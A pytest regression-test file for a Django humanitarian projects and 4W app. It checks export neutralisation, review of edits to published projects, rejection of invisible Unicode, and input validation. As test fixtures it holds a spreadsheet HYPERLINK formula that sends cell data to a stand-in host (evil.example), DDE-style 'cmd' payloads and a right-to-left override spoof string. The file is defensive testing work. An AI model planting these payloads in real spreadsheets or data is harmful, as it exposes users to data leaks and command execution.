"""Issue 10 for projects, the 4W view and the API: each defect reproduced, and kept closed.

#1 formula injection in the 4W exports, #2 published projects changed without review, #3 invisible characters
in imported names, #9 500s on ordinary input, #13 negative budgets and unknown currencies, #14 unknown filters
that returned everything, #15 read-only pages that accepted any method."""

import csv
import datetime
import io
import zipfile
from decimal import Decimal

import hxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from core.models import AuditEvent
from core.services import Refused
from fourw import iati_import
from fourw import services as fourw_services
from members.models import Organisation, Sector
from places.models import Place
from projects import services
from projects.models import Project
from tests.conftest import SHARED
from tests.test_fourw import OPTIONS, _validate
from tests.test_projects import _form_data

ORG = "astefir-al-zour"
ATTACK = '=HYPERLINK("http://evil.example/?leak="&A3,"Click")'
SPOOF = "\u202e" + "tnempoleveD rof noitazinagrO anrieD"
IATI_SAMPLE = SHARED / "data" / "iati" / "samples" / "synthetic-nes-activity-2.03.xml"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _published(slug=ORG) -> Project:
    return Project.objects.filter(organisation__slug=slug, review_state="published").order_by("pk").first()


def _export(client, fmt, **params) -> bytes:
    response = client.get("/en/4w/", {**params, "format": fmt})
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def _plant_formulas():
    """A project title, an implementing partner and an organisation name that a spreadsheet would run."""
    project = _published("deirna")
    Project.objects.filter(pk=project.pk).update(title_en=ATTACK)
    project.partners.create(name="+cmd|' /C calc'!A0", role="4")
    organisation = Organisation.objects.get(slug="deirna")
    organisation.name_en = "@SUM(1+1)*cmd|' /C calc'!A0"
    organisation.search_text = organisation.build_search_text()
    organisation.save()
    return project


# --- #1 formula injection -------------------------------------------------------------------------------------


def test_4w_csv_neutralises_formulas(client, demo):
    project = _plant_formulas()
    rows = list(csv.reader(io.StringIO(_export(client, "csv").decode())))
    mine = [r for r in rows if project.code in r]
    assert mine
    for row in rows[2:]:
        for cell in row:
            assert not cell.startswith(FORMULA_START), cell
    assert "'" + ATTACK in mine[0]


def test_4w_xlsx_writes_texts_never_formulas(client, demo):
    import openpyxl

    project = _plant_formulas()
    data = _export(client, "xlsx")
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "HYPERLINK" in sheet_xml
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value == ATTACK]
    assert cells and all(c.data_type == "s" for c in cells)
    assert project.code in [c.value for row in sheet.iter_rows() for c in row]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_neutralised_exports_stay_valid_hxl_and_round_trip(client, people, tmp_path, fmt):
    project = _plant_formulas()
    data = _export(client, fmt)
    path = tmp_path / f"4w.{fmt}"
    path.write_bytes(data)
    valid, errors = _validate(path)
    assert valid, errors
    assert {r.get("#activity+code") for r in hxl.data(str(path), OPTIONS)} >= {project.code}
    # Our own import reads the cells back as typed: no change at all to any published project.
    client.force_login(people["tech_officer"])
    before = {p.pk: services.values_of(p) for p in Project.objects.published()}
    response = client.post("/en/4w/import/", {"file": SimpleUploadedFile(f"4w.{fmt}", data)})
    preview = response.context["preview"]
    assert preview.ok, preview.errors
    assert next(p for p in preview.planned if p.project == project).title == ATTACK
    assert client.post("/en/4w/import/", {"token": response.context["token"]}).status_code == 302
    assert {p.pk: services.values_of(p) for p in Project.objects.published()} == before
    assert not project.revisions.exists()


# --- #2 a published project changes only after review -----------------------------------------------------------


def _edit_published(client, people, **changes):
    project = _published()
    client.force_login(people["astefir_editor"])
    data = _form_data(title_en="Renamed by an editor", reached_total="999999", **changes)
    response = client.post(f"/en/my/{ORG}/projects/{project.code}/", data, follow=True)
    return project, response


def _public_views(client, project) -> str:
    page = client.get(f"/en/projects/{project.code}/").content.decode()
    api = client.get(f"/api/projects/{project.code}/").content.decode()
    listing = client.get("/api/projects/", {"page_size": 100}).content.decode()
    registry = client.get("/en/projects/", {"q": "Renamed"}).content.decode()
    fourw = _export(client, "csv").decode()
    return "\n".join([page, api, listing, registry, fourw])


def test_a_form_change_to_a_published_project_waits_for_review(client, people):
    project, response = _edit_published(client, people)
    old_title = project.title_en
    assert response.status_code == 200
    assert "wait for the technical team" in response.content.decode()
    project.refresh_from_db()
    assert (project.title_en, project.review_state) == (old_title, "published")
    assert project.reached_total != 999999
    client.logout()
    public = _public_views(client, project)
    assert "Renamed by an editor" not in public and "999999" not in public and old_title in public
    revision = project.revisions.get(state="pending")
    assert revision.proposed["fields"]["title_en"] == "Renamed by an editor"
    assert AuditEvent.objects.filter(action="project.change_proposed", target_id=str(project.pk)).exists()
    # The editor sees the change waiting, and the form shows the proposed values to go on with.
    client.force_login(people["astefir_editor"])
    html = client.get(f"/en/my/{ORG}/projects/{project.code}/").content.decode()
    assert "Renamed by an editor" in html and "wait for the technical team" in html
    assert "Changes waiting for review" in client.get(f"/en/my/{ORG}/projects/").content.decode()


def test_the_review_shows_each_change_and_approval_applies_it(client, people):
    project, _response = _edit_published(client, people)
    old_title, old_reached = project.title_en, project.reached_total
    client.force_login(people["tech_officer"])
    queue = client.get("/en/office/projects/", {"state": "changes"}).content.decode()
    assert project.code in queue
    response = client.get(f"/en/office/projects/{project.code}/")
    changes = {str(label): (before, after) for label, before, after in response.context["changes"]}
    assert changes["Title (English)"] == (old_title, "Renamed by an editor")
    assert changes["people reached"] == (old_reached, 999999)
    assert "Renamed by an editor" in response.content.decode()
    response = client.post(f"/en/office/projects/{project.code}/changes/", {"decision": "approve"})
    assert response.status_code == 302
    project.refresh_from_db()
    assert (project.title_en, project.reached_total, project.review_state) == (
        "Renamed by an editor",
        999999,
        "published",
    )
    assert project.revisions.get().state == "approved"
    event = AuditEvent.objects.get(action="project.change_approved", target_id=str(project.pk))
    assert "title_en" in event.data["fields"]
    assert "Renamed by an editor" in client.get(f"/en/projects/{project.code}/").content.decode()
    # Decided once: a second approval (another reviewer at the same time) is refused and changes nothing.
    response = client.post(f"/en/office/projects/{project.code}/changes/", {"decision": "approve"}, follow=True)
    assert "No change waits for review" in response.content.decode()


def test_only_the_technical_team_decides_on_a_change(client, people):
    project, _response = _edit_published(client, people)
    for who in ("astefir_editor", "astefir_admin", "astefir_delegate", "deirna_admin"):
        client.force_login(people[who])
        assert client.post(f"/en/office/projects/{project.code}/changes/", {"decision": "approve"}).status_code == 404
    assert project.revisions.get().state == "pending"


def test_a_returned_change_keeps_the_published_version(client, people):
    project, _response = _edit_published(client, people)
    old_title = project.title_en
    client.force_login(people["tech_officer"])
    response = client.post(f"/en/office/projects/{project.code}/changes/", {"decision": "return", "comment": ""})
    assert "Say what the organisation should change." in response.content.decode()
    client.post(f"/en/office/projects/{project.code}/changes/", {"decision": "return", "comment": "Source?"})
    project.refresh_from_db()
    assert (project.title_en, project.review_state) == (old_title, "published")
    assert project.revisions.get().state == "returned"
    assert AuditEvent.objects.filter(action="project.change_returned", target_id=str(project.pk)).exists()
    client.force_login(people["astefir_editor"])
    html = client.get(f"/en/my/{ORG}/projects/{project.code}/").content.decode()
    assert "Source?" in html and old_title in html


def test_returning_a_published_project_returns_its_waiting_change(client, people):
    project, _response = _edit_published(client, people)
    client.force_login(people["tech_officer"])
    client.post(f"/en/office/projects/{project.code}/", {"decision": "return", "comment": "Check the totals."})
    project.refresh_from_db()
    assert project.review_state == "returned"
    assert project.revisions.get().state == "returned"  # the organisation now edits the project itself


def test_an_iati_update_that_would_unpublish_a_project_is_refused(people):
    Organisation.objects.filter(slug="deirna").update(iati_identifier="XX-EXAMPLE-NGO")
    data = IATI_SAMPLE.read_bytes()
    (project,) = fourw_services.import_iati(actor=people["tech_officer"], result=iati_import.read(data))
    services.project_submit(actor=people["tech_officer"], project=project)
    services.project_publish(actor=people["tech_officer"], project=project)
    without_sectors = data.replace(b'<sector vocabulary="1" code="72010" percentage="100"/>', b"").replace(
        b'<sector vocabulary="10" code="PRO" percentage="100"/>', b""
    )
    (activity,) = iati_import.read(without_sectors).activities
    assert activity.action == "refuse" and any(p.code == "no_sector" for p in activity.errors)
    assert fourw_services.import_iati(actor=people["tech_officer"], result=iati_import.read(without_sectors)) == []
    assert not project.revisions.exists()


def test_one_pending_change_per_project_and_later_changes_join_it(client, people):
    project, _response = _edit_published(client, people)
    client.force_login(people["astefir_editor"])
    data = _form_data(title_en="Renamed by an editor", reached_total="999999", reached_women="2100")
    client.post(f"/en/my/{ORG}/projects/{project.code}/", data)
    revision = project.revisions.get()
    assert revision.state == "pending" and revision.proposed["fields"]["reached_women"] == 2100
    # Saving the published values again withdraws the proposal: nothing is left to review.
    current = services.values_of(project)
    data = _form_data(
        title_en=current["title_en"],
        reached_total=current["reached_total"] or "",
        reached_women=current["reached_women"] or "",
        reached_men=current["reached_men"] or "",
        status=current["status"],
        actual_start=current["actual_start"] or "",
        actual_end=current["actual_end"] or "",
        sectors=[s.pk for s in current["sectors"]],
        places=[p.pk for p in current["places"]],
        **{"outputs-TOTAL_FORMS": "0", "partners-TOTAL_FORMS": "0", "links-TOTAL_FORMS": "0"},
    )
    for code in ("ar", "ku", "syr"):
        data[f"title_{code}"] = current[f"title_{code}"]
        data[f"description_{code}"] = current[f"description_{code}"]
    data["description_en"] = current["description_en"]
    data["original_language"] = current["original_language"]
    for name in Project.COUNT_FIELDS:
        data[name] = "" if current[name] is None else current[name]
    project.outputs.all().delete()
    project.partners.all().delete()
    project.links.all().delete()
    client.post(f"/en/my/{ORG}/projects/{project.code}/", data)
    assert not project.revisions.filter(state="pending").exists()


def _table(*rows):
    header = "Organisation,Sector,Activity,Project code,Sub-district P-code,Start date,End date,Status,People reached\n"
    tags = "#org+lead,#sector+cluster,#activity+name,#activity+code,#adm3+code,#date+start,#date+end,#status,#reached+ind\n"
    return (header + tags + "".join(r + "\n" for r in rows)).encode()


def test_a_4w_reimport_of_a_published_project_waits_for_review(client, people):
    project = _published("deirna")
    old = services.values_of(project)
    client.force_login(people["tech_officer"])
    row = f"Deirna Organization for Development,Protection,Renamed by import,{project.code},SY090101,2023-01-01,2023-03-31,Completed,999999"
    response = client.post("/en/4w/import/", {"file": SimpleUploadedFile("4w.csv", _table(row))})
    assert response.context["preview"].ok, response.context["preview"].errors
    response = client.post("/en/4w/import/", {"token": response.context["token"]}, follow=True)
    assert "for the technical team" in response.content.decode()
    project.refresh_from_db()
    assert services.values_of(project) == old and project.review_state == "published"
    revision = project.revisions.get(state="pending")
    assert revision.proposed["fields"]["title_en"] == "Renamed by import"
    assert revision.source == "4w"
    client.logout()
    assert "Renamed by import" not in _public_views(client, project)


def test_an_iati_reimport_of_a_published_project_waits_for_review(client, people):
    Organisation.objects.filter(slug="deirna").update(iati_identifier="XX-EXAMPLE-NGO")
    data = IATI_SAMPLE.read_bytes()
    (project,) = fourw_services.import_iati(actor=people["tech_officer"], result=iati_import.read(data))
    services.project_submit(actor=people["tech_officer"], project=project)
    services.project_publish(actor=people["tech_officer"], project=project)
    old = services.values_of(project)
    changed = data.replace(b"Psychosocial support for children", b"Renamed by IATI").replace(b'"420"', b'"999999"')
    fourw_services.import_iati(actor=people["tech_officer"], result=iati_import.read(changed))
    project.refresh_from_db()
    assert services.values_of(project) == old
    assert [(o.quantity, o.unit) for o in project.outputs.all()] == [(420, "Number of children reached")]
    revision = project.revisions.get(state="pending")
    assert revision.source == "iati" and revision.proposed["fields"]["title_en"].startswith("Renamed by IATI")
    client.logout()
    assert "Renamed by IATI" not in _public_views(client, project)


def test_paste_creates_a_new_draft_and_never_touches_a_published_project(client, people):
    published = {p.pk: services.values_of(p) for p in Project.objects.published()}
    client.force_login(people["astefir_editor"])
    text = "The project was implemented between 01/01/2023 and 15/02/2023 in Hajin. It benefited 4,500 people."
    assert client.post(f"/en/my/{ORG}/projects/paste/", {"text": text, "choose": "0"}).status_code == 302
    assert Project.objects.latest("pk").review_state == "draft"
    assert {p.pk: services.values_of(p) for p in Project.objects.published()} == published


# --- #3 invisible characters in names and titles -----------------------------------------------------------------


def test_a_4w_import_refuses_invisible_characters_row_by_row(client, people):
    client.force_login(people["tech_officer"])
    good = (
        "Deirna Organization for Development,Protection,Dialogue sessions,,SY090101,2023-01-01,2023-03-31,Completed,10"
    )
    spoof = f"Deirna Organization for Development,Protection,{SPOOF},,SY090101,2023-01-01,2023-03-31,Completed,10"
    before = Project.objects.count()
    response = client.post("/en/4w/import/", {"file": SimpleUploadedFile("4w.csv", _table(good, spoof))})
    errors = response.context["preview"].errors
    assert [(n, c) for n, c, _m in errors] == [(4, "Activity")]
    assert "U+202E" in errors[0][2] and "invisible" in errors[0][2]
    assert response.context["token"] is None and Project.objects.count() == before


def test_import_messages_never_echo_a_direction_override(client, people):
    client.force_login(people["tech_officer"])
    row = f"{SPOOF},Protection,Sessions,,SY090101,2023-01-01,2023-03-31,Completed,10"
    errors = (
        client.post("/en/4w/import/", {"file": SimpleUploadedFile("4w.csv", _table(row))}).context["preview"].errors
    )
    assert len(errors) == 2 and all(column == "Organisation" for _n, column, _m in errors)
    assert not any("\u202e" in message for _n, _c, message in errors)


def test_an_iati_import_refuses_invisible_characters_in_titles_and_partner_names(people):
    Organisation.objects.filter(slug="deirna").update(iati_identifier="XX-EXAMPLE-NGO")
    data = IATI_SAMPLE.read_bytes().replace(b"Example Foundation (donor)", SPOOF.encode())
    result = iati_import.read(data)
    (activity,) = result.activities
    assert activity.action == "refuse"
    assert any("U+202E" in str(p.message) for p in activity.problems())
    before = Project.objects.count()
    assert fourw_services.import_iati(actor=people["tech_officer"], result=result) == []
    assert Project.objects.count() == before
    title = IATI_SAMPLE.read_bytes().replace(b"Psychosocial support", "Psycho\u2066social support".encode())
    assert iati_import.read(title).activities[0].action == "refuse"


def test_the_project_form_refuses_invisible_characters_in_partners_and_outputs(client, people):
    client.force_login(people["astefir_editor"])
    before = Project.objects.count()
    for field, value in (("partners-0-name", SPOOF), ("outputs-0-unit", "metres\u200f"), ("links-0-title", "a\u202eb")):
        response = client.post(f"/en/my/{ORG}/projects/new/", _form_data(**{field: value}))
        assert response.status_code == 200, field
        assert "invisible characters" in response.content.decode(), field
    assert Project.objects.count() == before


def test_organisation_names_are_isolated_on_project_pages(client, people):
    client.force_login(people["astefir_editor"])
    for url in (f"/en/my/{ORG}/projects/", f"/en/my/{ORG}/projects/new/"):
        html = client.get(url).content.decode()
        assert 'Projects of <span lang="en" dir="ltr">' in html, url


# --- #9 no 500 on ordinary input ------------------------------------------------------------------------------


def test_an_unknown_region_in_the_4w_view_is_a_clear_400(client, demo):
    response = client.get("/en/4w/", {"region": "nowhere"})
    assert response.status_code == 400
    assert "“nowhere” is not a region of the coalition." in response.content.decode()
    assert response.context["matrix"]["totals"]["projects"] == 0


def test_the_api_ignores_unpublished_for_anonymous_readers(client, demo):
    response = client.get("/api/projects/", {"unpublished": "1"})
    assert response.status_code == 200 and response.json()["count"] == Project.objects.published().count()


def _damaged_xlsx() -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(["Organisation", "Activity"])
    out = io.BytesIO()
    book.save(out)
    damaged = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as src, zipfile.ZipFile(damaged, "w") as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            dst.writestr(info, data[: len(data) // 2] if "sheet1" in info.filename else data)
    return damaged.getvalue()


@pytest.mark.parametrize(
    ("name", "data", "message"),
    [
        ("4w.xlsx", _damaged_xlsx(), "هذا الملف ليس جدول بيانات (XLSX) ولا جدول CSV."),
        ("4w.csv", b'Organisation\n"' + b"a" * 200_000 + b'"\n', "هذا الملف ليس جدول بيانات (XLSX) ولا جدول CSV."),
    ],
)
def test_a_damaged_upload_gets_a_message_in_the_reader_language(client, people, name, data, message):
    client.force_login(people["tech_officer"])
    response = client.post("/ar/4w/import/", {"file": SimpleUploadedFile(name, data)})
    assert response.status_code == 200
    assert response.context["preview"].error == message


def test_a_utf16_csv_from_excel_is_read(client, people):
    client.force_login(people["tech_officer"])
    row = "Deirna Organization for Development\tProtection\tDialogue sessions\t\tSY090101\t2023-01-01\t2023-03-31\tCompleted\t10"
    data = _table(row).decode().replace(",", "\t").encode("utf-16")
    preview = client.post("/en/4w/import/", {"file": SimpleUploadedFile("4w.txt", data)}).context["preview"]
    assert preview.ok, (preview.error, preview.errors)


# --- #13 budgets and currencies --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("budget", "currency", "message"),
    [
        ("-500", "USD", "Ensure this value is greater than or equal to 0."),
        ("1000", "XYZ", "“XYZ” is not a currency code"),
        ("1000", "BYR", "“BYR” is not a currency code"),  # withdrawn from the list in 2018
    ],
)
def test_the_form_refuses_negative_budgets_and_unknown_currencies(client, people, budget, currency, message):
    client.force_login(people["astefir_editor"])
    before = Project.objects.count()
    response = client.post(f"/en/my/{ORG}/projects/new/", _form_data(budget=budget, currency=currency))
    assert response.status_code == 200
    assert message in response.content.decode()
    assert Project.objects.count() == before


def test_a_lower_case_currency_is_accepted(client, people):
    client.force_login(people["astefir_editor"])
    assert client.post(f"/en/my/{ORG}/projects/new/", _form_data(budget="1000", currency="syp")).status_code == 302
    assert Project.objects.get(title_en="Water network of Hajin").currency == "SYP"


@pytest.mark.parametrize(("value", "currency"), [("-50000", "USD"), ("50000", "ZZZ")])
def test_an_iati_import_takes_no_negative_budget_nor_unknown_currency(people, value, currency):
    Organisation.objects.filter(slug="deirna").update(iati_identifier="XX-EXAMPLE-NGO")
    data = IATI_SAMPLE.read_bytes().replace(
        b'<value currency="USD" value-date="2024-03-01">50000</value>',
        f'<value currency="{currency}" value-date="2024-03-01">{value}</value>'.encode(),
    )
    (activity,) = iati_import.read(data).activities
    assert "budget" not in activity.fields and "currency" not in activity.fields
    assert any(p.field == "budget" for p in activity.problems())
    (project,) = fourw_services.import_iati(actor=people["tech_officer"], result=iati_import.read(data))
    assert project.budget is None and project.currency == ""


@pytest.mark.parametrize(("budget", "currency"), [(Decimal("-1"), "USD"), (Decimal("10"), "EURO")])
def test_the_service_refuses_an_invalid_budget_by_any_door(people, budget, currency):
    with pytest.raises(Refused):
        services.project_save(
            actor=people["astefir_editor"],
            organisation=Organisation.objects.get(slug=ORG),
            fields={"title_en": "Budget", "budget": budget, "currency": currency},
            sectors=[Sector.objects.get(slug="water")],
            places=[Place.objects.get(pcode="SY090201")],
        )


# --- #14 unknown filters return nothing, with a message -------------------------------------------------------


@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({"place": "SY999999"}, "“SY999999” is not a P-code of the gazetteer."),
        ({"from": "2023-13-45"}, "“2023-13-45” is not a valid date."),
        ({"to": "yesterday"}, "“yesterday” is not a valid date."),
        ({"sector": "nothing"}, "“nothing” is not a sector of the coalition."),
        ({"status": "finished"}, "“finished” is not a project status."),
    ],
)
def test_an_unknown_4w_filter_shows_nothing_and_says_why(client, demo, params, message):
    response = client.get("/en/4w/", params)
    assert response.status_code == 400
    assert message in response.content.decode()
    assert response.context["matrix"]["totals"]["projects"] == 0
    assert client.get("/en/4w/", {**params, "format": "csv"}).status_code == 400


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"place": "SY999999"}, "place"),
        ({"from": "2023-13-45"}, "from"),
        ({"to": "x"}, "to"),
        ({"region": "x"}, "region"),
    ],
)
def test_an_unknown_api_filter_is_a_400(client, demo, params, field):
    response = client.get("/api/projects/", params)
    assert response.status_code == 400
    assert field in response.json()["errors"]


def test_an_unknown_registry_sector_shows_nothing_and_says_why(client, demo):
    response = client.get("/en/projects/", {"sector": "nothing"})
    assert response.status_code == 400
    assert "“nothing” is not a sector of the coalition." in response.content.decode()
    assert response.context["page"].paginator.count == 0


def test_an_unknown_api_organisation_filter_is_a_400(client, demo):
    response = client.get("/api/organisations/", {"region": "nowhere"})
    assert response.status_code == 400 and "region" in response.json()["errors"]
    spec = client.get("/api/openapi.json").json()
    assert "400" in spec["paths"]["/api/projects/"]["get"]["responses"]


def test_known_filters_still_select(client, demo):
    data = client.get("/api/projects/", {"place": "SY0902", "from": "2020-01-01", "to": "2030-01-01"}).json()
    assert data["count"] > 0
    assert client.get("/en/4w/", {"place": "SY0902", "from": "2020-01-01"}).status_code == 200


# --- #15 read-only pages refuse other methods ---------------------------------------------------------------------


def _code():
    return _published().code


READ_ONLY = [
    ("/en/projects/", None),
    ("/en/projects/{code}/", None),
    ("/en/4w/", None),
    ("/api/projects/", None),
    ("/api/projects/{code}/", None),
    ("/api/organisations/", None),
    ("/api/organisations/deirna/", None),
    ("/api/openapi.json", None),
    (f"/en/my/{ORG}/projects/", "astefir_editor"),
    ("/en/office/projects/", "tech_officer"),
]


@pytest.mark.parametrize(("url", "who"), READ_ONLY)
@pytest.mark.parametrize("method", ["post", "put", "delete", "patch"])
def test_read_only_pages_refuse_other_methods(client, people, url, who, method):
    if who:
        client.force_login(people[who])
    address = url.format(code=_code())
    assert client.get(address).status_code == 200
    assert client.head(address).status_code == 200
    assert getattr(client, method)(address).status_code == 405


def test_actions_refuse_get(client, people):
    project = _published()
    client.force_login(people["astefir_editor"])
    assert client.get(f"/en/my/{ORG}/projects/{project.code}/submit/").status_code == 405
    client.force_login(people["tech_officer"])
    assert client.get(f"/en/office/projects/{project.code}/changes/").status_code == 405


def test_an_ordinary_date_filter_still_works(client, demo):
    start = datetime.date(2021, 1, 1).isoformat()
    assert client.get("/en/4w/", {"from": start}).context["matrix"]["totals"]["projects"] > 0
